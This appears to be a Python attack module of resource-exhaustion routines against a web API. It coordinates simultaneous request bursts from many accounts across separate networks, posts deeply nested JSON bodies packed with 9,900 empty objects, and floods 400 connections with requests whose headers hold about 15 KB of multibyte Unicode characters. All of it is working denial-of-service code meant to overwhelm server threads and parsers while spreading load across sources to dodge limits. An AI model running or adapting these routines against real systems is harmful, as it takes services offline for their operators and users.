# Requests that several accounts send at the same moment, each from a network of its own.
import threading
from wire import Client

# The nesting of the unknown member. A value may have 64 levels.
DEPTH = 30


def bursts(attack, requests):
    """All accounts send a request at the same moment, each from a network of its own. When all have their responses, they pause for 0.12 s,
    so that the server no longer knows who has used its threads, and send the next of the requests."""
    barrier = threading.Barrier(len(attack.accounts))

    def work(number):
        client, turn = Client(attack.stage, attack.sources[number]), 0
        while not attack.is_over:
            barrier.wait()
            try:
                status = requests[turn % len(requests)](client, attack.accounts[number])
            except OSError as error:
                status = type(error).__name__
            attack.count(str(status))
            turn += 1
            barrier.wait()
            attack.wait(0.12)

    for number in range(len(attack.accounts)):
        threading.Thread(target=work, args=(number,), daemon=True).start()
    attack.wait(0.2)
    attack.ready()
    attack.over.wait()


def unknown_members(attack):
    """Moods with a member that the route does not know, which contains 9,900 empty objects. JSON may have 20,000 values; an empty object
    counts as two."""
    body = b'{"mood":"calm","x":' + b"[" * DEPTH + b",".join([b"{}"] * 9_900) + b"]" * DEPTH + b"}"
    path = lambda person: f"/api/users/user/{person['id']}/moods/swift"
    fields = {"Content-Type": "application/json"}
    bursts(attack, [lambda client, person: client.request("POST", path(person), person["token"], body, fields)[0]])


# The connections of one network for long heads.
CONNECTIONS = 100


def long_heads(attack):
    """Requests without a credential on 400 connections of four networks. Their heads have 15 KB of letters for which Unicode's tables had
    to be looked up."""
    head = attack.stage.head("GET", "/user/me", fields={"X": "\u05d0" * 7_400})

    def work(number):
        connections = [attack.connect(number) for _ in range(CONNECTIONS)]
        while not attack.is_over:
            for connection in connections:
                connection.sendall(head)
            for connection in connections:
                answer = connection.recv(65_536)
                attack.count(answer.split(b" ", 2)[1].decode() if answer else "ended")

    for number in range(len(attack.sources)):
        threading.Thread(target=work, args=(number,), daemon=True).start()
    attack.wait(5)
    attack.ready()
    attack.over.wait()
